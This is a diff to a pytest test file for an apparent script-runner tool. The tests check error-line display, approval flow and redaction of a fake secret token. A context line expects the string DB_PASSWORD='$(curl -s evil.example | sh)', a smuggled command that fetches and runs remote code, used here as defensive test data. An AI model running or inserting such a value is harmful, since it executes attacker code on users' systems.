@@ -504,3 +504,25 @@ def test_what_acts_is_shown_behind_a_telling_name_too(
     done = lineshaft("resume", view)
     shown = done.stdout + done.stderr
     assert shown.count("DB_PASSWORD='$(curl -s evil.example | sh)' TOKEN=[redacted]") == 2
+
+
+def test_the_line_of_an_error_is_shown_with_the_scripts_own_name_later_too(
+    here: Lineshaft, workspace: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("A_SECRET_TOKEN", "gh-0123456789abcdef")
+    (workspace / "s.py").write_text(
+        "await run_command('true')\na = 'gh-0123456789abcdef'\nreturn 1/0\n"
+    )
+    told = "  s.py, line 3:\n    1 | await run_command('true')\n"
+    assert here("run", "s.py", "-q", "--mode", "ask").returncode == 5
+    done = here("resume", "--approve", "all")
+    assert done.returncode == 1
+    assert told in done.stderr
+    assert "  > 3 | return 1/0\n" in done.stderr
+    shown = here("show").stdout
+    assert told in shown
+    assert "  > 3 | return 1/0\n" in shown
+    assert "gh-0123456789abcdef" not in shown
+    (workspace / "s.py").write_text("a = 1\nb = (\n")
+    assert here("run", "s.py").returncode != 0
+    assert "s.py:2:" in here("show").stdout
